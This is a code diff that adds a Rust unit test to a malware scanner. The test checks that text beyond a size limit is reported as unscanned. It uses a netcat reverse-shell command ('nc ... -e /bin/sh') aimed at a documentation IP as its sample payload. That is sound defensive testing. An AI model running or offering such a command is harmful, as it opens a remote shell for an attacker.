@@ -275,6 +275,24 @@ mod tests {
     }
 
     #[test]
+    fn text_beyond_the_bound_is_told() {
+        let scan = |bytes: &[u8]| {
+            let mut scan = YaraScan::default();
+            let file = YaraFile {
+                path: "a.sh",
+                ..YaraFile::default()
+            };
+            Builtin::new(sources()).scan(bytes, &file, &mut scan);
+            scan
+        };
+        let mut text = vec![b'a'; MAX_TEXT];
+        assert!(!scan(&text).limited);
+        text.extend_from_slice(b"\nnc 203.0.113.5 1 -e /bin/sh");
+        let beyond = scan(&text);
+        assert!(beyond.limited && beyond.matches.is_empty());
+    }
+
+    #[test]
     fn the_program_does_not_carry_its_rules_readably() {
         let packed = include_bytes!(concat!(env!("OUT_DIR"), "/yara_rules.bin"));
         assert!(memchr::memmem::find(packed, b"condition").is_none());
